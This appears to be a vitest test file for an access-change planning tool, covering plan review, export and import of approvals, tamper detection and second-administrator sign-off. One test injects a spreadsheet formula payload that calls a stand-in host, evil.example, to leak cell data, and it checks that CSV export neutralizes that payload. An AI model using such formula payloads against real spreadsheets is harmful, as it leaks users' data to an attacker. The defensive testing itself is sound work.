/** Review (diff, totals, warnings, estimate) and the round trip through a second administrator. */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { listAudit } from '../audit-trail';
import { createMemoryBudget } from '../smartsimple/client';
import { approvePlan, revokeApprovals } from './approval';
import { contentHash, exportPlanCsv, exportPlanJson, importPlanApprovals, type PlanExport } from './exchange';
import { addOperations, createPlan, getPlan, submitForReview } from './plans';
import { reviewPlan } from './review';
import { useMirroredSandboxes } from './test-support/mirrored-sandboxes';

const mirrored = useMirroredSandboxes();

async function setup() {
  const m = await mirrored();
  const live = m.sb.state.data.people.filter(
    (p) => !p.deleted && p.accessType === '1' && p.status === 'Active' && p.userType === '10',
  );
  const roles = m.sb.state.data.roles;
  return { ...m, live, roles };
}

describe('review', () => {
  it('shows a diff per person, totals, warnings and the calls against the hourly budget', async () => {
    const { db, instanceId, live, roles } = await setup();
    const single = live.find((p) => p.roleIds.length === 1) as (typeof live)[number];
    const [a, b] = live.filter((p) => p !== single) as [(typeof live)[number], (typeof live)[number]];
    const privileged = roles.find((r) => r.privileged && !r.utaOnly && !a.roleIds.includes(r.id)) as { id: number };
    const { plan } = createPlan(db, {
      instanceId,
      title: 'Mixed',
      createdBy: 'ana',
      operations: [
        { kind: 'remove_role', personId: single.id, roleId: single.roleIds[0] as number },
        { kind: 'add_role', personId: a.id, roleId: privileged.id },
        { kind: 'update_fields', personId: a.id, fields: { sf_Title: 'Boss' } },
        { kind: 'deactivate', personId: b.id, source: 'ai' },
      ],
    });
    // Another open plan on the same person, and the mirror moving since planning.
    createPlan(db, {
      instanceId,
      title: 'Other',
      createdBy: 'bo',
      operations: [{ kind: 'update_fields', personId: b.id, fields: { sf_Title: 'X' } }],
    });
    db.prepare("UPDATE mirror_people SET title = 'Changed meanwhile' WHERE instance_id = ? AND id = ?").run(
      instanceId,
      a.id,
    );

    const budget = createMemoryBudget({ limit: 1000, clock: () => 0 });
    for (let i = 0; i < 995; i++) budget.record(0);
    const review = reviewPlan(db, plan.id, { budget, now: 0 });
    expect(review.people.map((p) => [p.personId, p.operations.length])).toEqual([
      [single.id, 1],
      [a.id, 2],
      [b.id, 1],
    ]);
    const personA = review.people[1];
    expect(personA?.after['sf_Title']).toBe('Boss');
    expect(personA?.after['sf_User Role']).toContain(`,${privileged.id},`);
    expect(review.totals).toMatchObject({
      operations: 4,
      people: 3,
      privileged: 1,
      approved: 0,
      awaitingOwnApproval: 1,
      fromAi: 1,
      byKind: { remove_role: 1, add_role: 1, update_fields: 1, deactivate: 1 },
    });
    expect(review.warnings.map((w) => [w.kind, w.personId]).sort()).toEqual(
      [
        ['loses-last-role', single.id],
        ['privileged-grant', a.id],
        ['mirror-drift', a.id],
        ['other-open-plan', b.id],
      ].sort(),
    );
    // 3 people: 1 read, 1 write, 1 read-back, 1 note call (batch 50).
    expect(review.estimate).toMatchObject({
      reads: 1,
      writes: 1,
      verifies: 1,
      notes: 1,
      total: 4,
      minimumWrites: 2,
      budget: { limit: 1000, remaining: 5, fitsNow: true },
    });
    expect(reviewPlan(db, plan.id, { budget, now: 0, batchSize: 1, idsPerCall: 1 }).estimate).toMatchObject({
      total: 12,
      budget: { remaining: 5, fitsNow: false, waitMs: 3_600_000 },
    });
  });
});

describe('export and import', () => {
  async function reviewed() {
    const s = await setup();
    const [a, b] = s.live as [(typeof s.live)[number], (typeof s.live)[number]];
    const privileged = s.roles.find((r) => r.privileged && !r.utaOnly && !a.roleIds.includes(r.id)) as { id: number };
    const { plan } = createPlan(s.db, {
      instanceId: s.instanceId,
      title: 'For review',
      createdBy: 'ana',
      operations: [
        { kind: 'add_role', personId: a.id, roleId: privileged.id },
        { kind: 'update_fields', personId: b.id, fields: { sf_Title: 'Reviewed' } },
      ],
    });
    submitForReview(s.db, { planId: plan.id, actor: 'ana' });
    return { ...s, plan, a, b };
  }

  it("brings a reviewer's approvals back from JSON, privileged ones only when given on their own", async () => {
    const { db, plan } = await reviewed();
    const doc = JSON.parse(exportPlanJson(db, { planId: plan.id, actor: 'ana' })) as PlanExport;
    expect(doc.contentHash).toBe(contentHash(getPlan(db, plan.id).operations));
    const [priv, plain] = doc.operations as [PlanExport['operations'][0], PlanExport['operations'][0]];
    // The reviewer approves both, the privileged one along with the plan: that one must not count.
    priv.approval = { by: 'cy', at: '2026-11-02T10:00:00.000Z', scope: 'plan' };
    plain.approval = { by: 'cy', at: '2026-11-02T10:00:00.000Z', scope: 'plan' };
    const first = importPlanApprovals(db, {
      planId: plan.id,
      content: JSON.stringify(doc),
      format: 'json',
      importedBy: 'ana',
    });
    expect(first.imported).toBe(1);
    expect(first.skipped).toEqual([{ operationId: priv.id, reason: expect.stringMatching(/on its own/) as unknown }]);
    expect(first.plan.operations.find((o) => o.id === plain.id)?.approval).toEqual({
      by: 'cy',
      at: '2026-11-02T10:00:00.000Z',
      scope: 'import',
      reason: null,
      recordedBy: 'ana',
    });
    priv.approval = { by: 'cy', at: '2026-11-02T10:05:00.000Z', scope: 'operation', reason: 'Runs the grants desk' };
    const second = importPlanApprovals(db, {
      planId: plan.id,
      content: JSON.stringify(doc),
      format: 'json',
      importedBy: 'ana',
    });
    expect([second.imported, second.plan.state]).toEqual([1, 'approved']);
    expect(listAudit(db, { subject: `plan:${plan.id}`, action: 'plan.imported' }).total).toBe(2);
  });

  it('refuses a file whose operations were edited, or a plan edited since the export', async () => {
    const { db, plan, a } = await reviewed();
    const text = exportPlanJson(db, { planId: plan.id, actor: 'ana' });
    const tampered = JSON.parse(text) as PlanExport;
    (tampered.operations[1] as PlanExport['operations'][0]).after = { sf_Title: 'Something else' };
    expect(() =>
      importPlanApprovals(db, {
        planId: plan.id,
        content: JSON.stringify(tampered),
        format: 'json',
        importedBy: 'ana',
      }),
    ).toThrow(/edited after the export/);
    // A tamperer who also fixes the hash is caught by the plan's own operations.
    tampered.contentHash = contentHash(tampered.operations);
    expect(() =>
      importPlanApprovals(db, {
        planId: plan.id,
        content: JSON.stringify(tampered),
        format: 'json',
        importedBy: 'ana',
      }),
    ).toThrow(/differ from the plan's/);
    addOperations(db, {
      planId: plan.id,
      actor: 'ana',
      operations: [{ kind: 'update_fields', personId: a.id, fields: { sf_Title: 'New' } }],
    });
    expect(() =>
      importPlanApprovals(db, { planId: plan.id, content: text, format: 'json', importedBy: 'ana' }),
    ).toThrow(/edited since this export/);
  });

  it('round-trips approvals through CSV and refuses a CSV whose rows changed', async () => {
    const { db, plan } = await reviewed();
    approvePlan(db, { planId: plan.id, approver: 'bo' });
    const csv = exportPlanCsv(db, { planId: plan.id, actor: 'ana' });
    const lines = csv.trim().split('\n');
    expect(lines[0]).toMatch(/^plan_id,content_hash,operation_id,seq,fingerprint,kind,person_id,summary,before,after/);
    expect(lines).toHaveLength(3);
    const privRow = lines[1] as string;
    // The reviewer adds their own approval on the privileged row (empty columns at the end).
    const approved = privRow.replace(/,,,,$/, ',cy,2026-11-03T09:00:00.000Z,operation,Covers the desk');
    const result = importPlanApprovals(db, {
      planId: plan.id,
      content: [lines[0], approved, lines[2]].join('\n'),
      format: 'csv',
      importedBy: 'ana',
    });
    expect(result.imported).toBe(1);
    expect(result.skipped).toEqual([{ operationId: expect.any(Number) as unknown, reason: 'already approved by bo' }]);
    expect(result.plan.state).toBe('approved');
    const changed = (lines[2] as string).replace(/update_fields/, 'add_role');
    expect(() =>
      importPlanApprovals(db, {
        planId: plan.id,
        content: [lines[0], lines[1], changed].join('\n'),
        format: 'csv',
        importedBy: 'ana',
      }),
    ).toThrow(/differ from the plan's/);
    expect(() =>
      importPlanApprovals(db, {
        planId: plan.id,
        content: [lines[0], lines[1]].join('\n'),
        format: 'csv',
        importedBy: 'ana',
      }),
    ).toThrow(/missing/);
  });

  it('writes no live formula into the CSV and reads a neutralized export back to the exact names', async () => {
    const { db, plan } = await reviewed();
    const evil = '=HYPERLINK("http://evil.example/?leak="&A2,"Open review")';
    // The hostile name comes in through an imported review.
    const doc = JSON.parse(exportPlanJson(db, { planId: plan.id, actor: 'ana' })) as PlanExport;
    for (const op of doc.operations)
      op.approval = { by: evil, at: '2026-11-04T08:00:00.000Z', scope: 'operation', reason: 'Reviewed' };
    importPlanApprovals(db, { planId: plan.id, content: JSON.stringify(doc), format: 'json', importedBy: 'ana' });

    const csv = exportPlanCsv(db, { planId: plan.id, actor: 'ana' });
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows.map((r) => r.approved_by)).toEqual([`'${evil}`, `'${evil}`]);

    const ids = getPlan(db, plan.id).operations.map((o) => o.id);
    revokeApprovals(db, { planId: plan.id, operationIds: ids, actor: 'ana' });
    const back = importPlanApprovals(db, { planId: plan.id, content: csv, format: 'csv', importedBy: 'ana' });
    expect(back.imported).toBe(2);
    expect(back.plan.operations.map((o) => o.approval?.by)).toEqual([evil, evil]);
  });

  it('four-eyes: takes a signed-off privileged approval only from a second administrator with a reason', async () => {
    const { db, plan } = await reviewed();
    const doc = JSON.parse(exportPlanJson(db, { planId: plan.id, actor: 'ana' })) as PlanExport;
    const priv = doc.operations.find((o) => o.privileged) as PlanExport['operations'][0];
    const importAs = (
      approval: NonNullable<PlanExport['operations'][0]['approval']>,
      importedBy = 'Ann (API user x)',
    ) => {
      priv.approval = approval;
      return importPlanApprovals(db, { planId: plan.id, content: JSON.stringify(doc), format: 'json', importedBy });
    };
    const at = '2026-11-05T09:00:00.000Z';
    // The builder signing their own file, this computer's administrator, or no reason: not taken.
    const own = importAs({ by: 'ANA', at, scope: 'operation', reason: 'Because' });
    expect(own.skipped).toEqual([
      { operationId: priv.id, reason: expect.stringMatching(/built this plan/) as unknown },
    ]);
    const local = importAs({ by: 'ann', at, scope: 'operation', reason: 'Because' });
    expect(local.skipped[0]?.reason).toMatch(/this computer's administrator/);
    const noReason = importAs({ by: 'Cy Reviewer', at, scope: 'operation' });
    expect(noReason.skipped[0]?.reason).toMatch(/no reason/);
    expect(getPlan(db, plan.id).operations.find((o) => o.id === priv.id)?.approval).toBeNull();

    const taken = importAs({ by: 'Cy Reviewer', at, scope: 'operation', reason: 'Replaces Bo on the desk' });
    expect([taken.imported, taken.skipped]).toEqual([1, []]);
    expect(taken.plan.operations.find((o) => o.id === priv.id)?.approval).toEqual({
      by: 'Cy Reviewer',
      at,
      scope: 'import',
      reason: 'Replaces Bo on the desk',
      recordedBy: 'Ann (API user x)',
    });
    const entry = listAudit(db, { subject: `plan:${plan.id}`, action: 'plan.imported' }).entries[0];
    expect(entry?.details).toMatchObject({
      builder: 'ana',
      approved: [{ operationId: priv.id, by: 'Cy Reviewer', reason: 'Replaces Bo on the desk' }],
    });
    expect(entry?.actor).toBe('Ann (API user x)');
  });
});
